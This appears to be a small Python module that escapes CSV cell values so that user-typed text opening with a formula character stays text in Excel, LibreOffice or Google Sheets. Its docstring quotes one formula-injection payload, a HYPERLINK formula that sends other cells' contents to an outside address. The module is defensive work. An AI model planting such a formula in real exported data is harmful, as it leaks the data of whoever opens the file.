"""Downloads that open in a spreadsheet (the reports' CSV, the survey's answers): what people
typed must stay text there.

A cell starting with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return before one) is
a formula to Excel, LibreOffice and Google Sheets: a member who signs up as
``=HYPERLINK("https://…?"&A1, "Open")`` would have the trainer's copy send other cells to
that address. An apostrophe in front makes the spreadsheet show the text as it was typed.
XLSX downloads are safe already: Wagtail writes every cell as a string, never a formula.
"""

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def as_text_cell(value):
    """``value`` for a CSV cell: text that would start a formula gets a leading apostrophe;
    numbers, dates and other text are left alone."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value
